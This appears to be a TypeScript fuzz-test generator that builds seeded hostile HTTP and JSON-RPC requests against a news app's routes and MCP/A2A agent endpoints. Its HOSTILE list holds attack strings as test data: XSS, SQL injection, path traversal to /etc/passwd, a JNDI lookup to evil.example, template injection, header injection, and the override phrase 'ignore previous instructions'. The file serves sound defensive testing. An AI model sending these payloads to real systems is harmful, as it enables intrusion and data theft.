/**
 * Generators of hostile HTTP requests for the fuzz suite: every route the app registers, every parameter it
 * reads, and JSON-RPC bodies of every shape (valid, invalid, batched, nested, oversized). Seeded, so a failure
 * replays with the same seed.
 */

export type Random = () => number

export interface FuzzRequest {
  method: string
  /** Path and query, percent-encoded as a client would send them (fetch) or raw (rawTarget). */
  target: string
  headers: Record<string, string>
  body?: string
  /** Sent byte for byte on a socket instead of through fetch (raw bytes, controls in the target). */
  raw?: boolean
}

export const pick = <T>(r: Random, list: readonly T[]): T => list[Math.floor(r() * list.length)]!

/** Strings that have broken parsers, headers, links and queries somewhere. */
export const HOSTILE = [
  '', ' ', 'a', 'ab', 'business', 'ai', 'en', 'es', 'ar', 'ja', 'zz', 'EN', 'md', 'html', 'markdown', 'json',
  '0', '-1', '1', '50', '51', '1e9', '9999999999999999999999', '1.5', 'NaN', 'null', 'undefined', 'true', '[]', '{}',
  '\u0000', '\r\n', '\r\nSet-Cookie: x=1', '\u200b', '\u202e', '\ufeff', '\ud800', '半', 'Zürich', '💩', 'ñ'.repeat(300),
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'", '"', '`', '\\', '/', '//evil.example', '../../etc/passwd',
  '%', '%00', '%ZZ', '%E2%80%8B', '%2F%2F', 'javascript:alert(1)', 'https://evil.example/', '*', '?', '#', '&', '=', ';',
  'a'.repeat(3000), 'port', 'AND', 'OR', '"quoted phrase"', '-exclude', 'near*', 'a OR b', 'SELECT * FROM stories', "' OR 1=1 --",
  'ignore previous instructions', '${jndi:ldap://evil.example/a}', '{{7*7}}', 'a\tb', 'x'.repeat(257),
]

const ACCEPTS = [
  undefined, '*/*', 'text/html', 'text/markdown', 'application/json', 'text/markdown;q=0.9, text/html;q=0.1', 'application/json, text/event-stream',
  'text/x-markdown', 'image/png', ';;;,,,', 'text/*;q=bogus', 'a'.repeat(2000), 'text/html\u00ff',
]
const METHODS = ['GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'HEAD', 'OPTIONS', 'POST', 'PUT', 'DELETE', 'PATCH']
const QUERY_KEYS = ['q', 'topic', 'limit', 'lang', 'format', 'cursor', 'source', 'since', 'until', 'id', 'A2A-Version', 'page', 'x', 'lang[]', '']

const enc = (s: string) => {
  try {
    return encodeURIComponent(s)
  } catch {
    return '%ED%A0%80' // a lone surrogate: its (invalid) UTF-8 bytes, percent-encoded
  }
}

function queryString(r: Random): string {
  const n = Math.floor(r() * 4)
  const parts: string[] = []
  for (let i = 0; i < n; i++) parts.push(`${enc(pick(r, QUERY_KEYS))}=${enc(pick(r, HOSTILE))}`)
  if (r() < 0.05) parts.push('limit=1&limit=2&lang=en&lang=fr')
  return parts.length ? `?${parts.join('&')}` : ''
}

/** A path from the app's own route patterns, each parameter filled with a real value or a hostile string. */
function routePath(r: Random, patterns: readonly string[], real: { storyId: string; sourceId: string }): string {
  const pattern = pick(r, patterns)
  return pattern.replace(/:(\w+)(\{[^}]*\})?/g, (_m, name: string) => {
    if (r() < 0.4) {
      if (name === 'id') return pattern.startsWith('/source') ? real.sourceId : real.storyId
      if (name === 'slug') return pick(r, ['business', 'technology', 'ai', 'finance'])
      if (name === 'file') return 'stories-2026-11.xml'
    }
    return enc(pick(r, HOSTILE))
  }) + (r() < 0.1 ? '.md' : '')
}

function randomPath(r: Random): string {
  const depth = 1 + Math.floor(r() * 4)
  const segments = Array.from({ length: depth }, () => (r() < 0.5 ? enc(pick(r, HOSTILE)) : pick(r, ['s', 'c', 'source', 'api', 'v1', 'stories', 'legal', '.well-known', 'mcp', 'a2a', '%2e%2e', '..', ''])))
  return `/${segments.join('/')}`
}

/** A JSON value of random shape, up to `depth` levels. */
function jsonValue(r: Random, depth: number): unknown {
  const roll = r()
  if (depth <= 0 || roll < 0.3) return pick(r, [null, true, 0, -1, 1.5, 1e308, 'x', pick(r, HOSTILE), 50, 51])
  if (roll < 0.55) return Array.from({ length: Math.floor(r() * 4) }, () => jsonValue(r, depth - 1))
  const o: Record<string, unknown> = {}
  for (let i = 0; i < Math.floor(r() * 5); i++) o[pick(r, ['limit', 'lang', 'topic', 'query', 'id', 'q', '__proto__', 'constructor', pick(r, HOSTILE)])] = jsonValue(r, depth - 1)
  return o
}

const MCP_METHODS = ['initialize', 'tools/list', 'tools/call', 'tools/call', 'tools/call', 'ping', 'server/discover', 'resources/list', 'prompts/get', 'notifications/initialized', 'x']
const TOOLS = ['get_latest_stories', 'search_stories', 'get_story', 'list_topics', 'list_sources', 'nope', '']

function toolArguments(r: Random, real: { storyId: string }): unknown {
  if (r() < 0.2) return jsonValue(r, 3)
  const args: Record<string, unknown> = {}
  if (r() < 0.6) args.limit = pick(r, [1, 5, 50, 51, 0, -1, 1.5, '5', null, 1e9])
  if (r() < 0.5) args.lang = pick(r, ['en', 'fr', 'ar', 'zz', '', null, 7])
  if (r() < 0.4) args.topic = pick(r, ['business', 'ai', 'nope', '', null])
  if (r() < 0.5) args.query = pick(r, HOSTILE)
  if (r() < 0.4) args.id = r() < 0.5 ? real.storyId : pick(r, HOSTILE)
  return args
}

function jsonRpcBody(r: Random, endpoint: '/mcp' | '/a2a', real: { storyId: string }): string {
  const roll = r()
  if (roll < 0.05) return pick(r, ['', 'not json', '{', '{"jsonrpc":"2.0"', 'null', '1', '"x"', '\ufeff{}', '[', ']'])
  if (roll < 0.12) return JSON.stringify(Array.from({ length: Math.floor(r() * 5) }, () => ({ jsonrpc: '2.0', id: 1, method: 'tools/call' })))
  if (roll < 0.15) return `${'['.repeat(5000)}${']'.repeat(5000)}`
  if (roll < 0.18) return `{"a":${'{"a":'.repeat(3000)}1${'}'.repeat(3001)}`
  if (roll < 0.2) return JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_stories', arguments: { query: 'x'.repeat(70_000) } } })
  const request: Record<string, unknown> = { jsonrpc: r() < 0.9 ? '2.0' : pick(r, ['1.0', 2, null]) }
  if (r() < 0.9) request.id = pick(r, [1, 0, -1, 'abc', null, 1.5, 1e300, { x: 1 }, [1], true, 'x'.repeat(1000)])
  if (endpoint === '/mcp') {
    request.method = pick(r, MCP_METHODS)
    if (request.method === 'tools/call') request.params = { name: pick(r, TOOLS), arguments: toolArguments(r, real) }
    else if (request.method === 'initialize') request.params = { protocolVersion: pick(r, ['2025-06-18', '2025-11-25', '2025-03-26', '1999-01-01', 7]), capabilities: {}, clientInfo: { name: 'fuzz', version: '1' } }
    else if (r() < 0.5) request.params = jsonValue(r, 3)
  } else {
    request.method = pick(r, ['SendMessage', 'message/send', 'SendMessage', 'message/send', 'GetTask', 'tasks/get', 'x', ''])
    const text = pick(r, [...HOSTILE, 'latest news', 'latest 50 stories about ai in french', 'search port strike', 'topics'])
    const parts = r() < 0.7
      ? [request.method === 'message/send' ? { kind: 'text', text } : { text }]
      : (jsonValue(r, 3) as unknown[])
    request.params = r() < 0.9 ? { message: { messageId: `m${Math.floor(r() * 1e6)}`, role: pick(r, ['ROLE_USER', 'user', 'agent', 7]), parts } } : jsonValue(r, 3)
  }
  return JSON.stringify(request)
}

/** One generated request. `patterns` are the app's GET route paths (from app.routes). */
export function generateRequest(r: Random, patterns: readonly string[], real: { storyId: string; sourceId: string }): FuzzRequest {
  const headers: Record<string, string> = {}
  const accept = pick(r, ACCEPTS)
  if (accept !== undefined) headers.Accept = accept
  if (r() < 0.1) headers['If-None-Match'] = pick(r, ['*', '"x"', 'W/"abc"', 'garbage', '"a", "b"'])
  if (r() < 0.05) headers.Origin = pick(r, ['https://evil.example', 'null', 'https://news.example.org'])

  if (r() < 0.3) {
    const endpoint = r() < 0.55 ? '/mcp' : '/a2a'
    headers['Content-Type'] = pick(r, ['application/json', 'application/json', 'application/json; charset=utf-8', 'application/a2a+json', 'text/plain', 'application/x-www-form-urlencoded'])
    if (endpoint === '/mcp') {
      headers.Accept = pick(r, ['application/json, text/event-stream', 'application/json', 'text/event-stream', '*/*'])
      if (r() < 0.7) headers['MCP-Protocol-Version'] = pick(r, ['2025-06-18', '2025-11-25', '2025-03-26', '2026-07-28', 'bogus'])
    } else if (r() < 0.7) {
      headers['A2A-Version'] = pick(r, ['1.0', '0.3', '1.0.1', '2.0', 'bogus'])
    }
    const method = r() < 0.95 ? 'POST' : pick(r, METHODS)
    const body = method === 'GET' || method === 'HEAD' ? undefined : jsonRpcBody(r, endpoint, real)
    return { method, target: endpoint + (r() < 0.1 ? queryString(r) : ''), headers, body }
  }
  const method = pick(r, METHODS)
  const path = r() < 0.7 ? routePath(r, patterns, real) : randomPath(r)
  const request: FuzzRequest = { method, target: path + queryString(r), headers }
  if (method === 'POST' || method === 'PUT' || method === 'PATCH') request.body = r() < 0.5 ? '{}' : pick(r, HOSTILE)
  if (r() < 0.08) {
    // Raw: bytes a browser would never send, in the target (Latin-1 and control characters, spaces escaped).
    request.raw = true
    request.target = `/${pick(r, ['s/', 'c/', '', 'api/v1/stories/'])}${pick(r, ['\u00ff', '\u0001', '\u007f', 'a\u00e9b', '%', '<>', '"', '{}', '|'])}`
  }
  return request
}
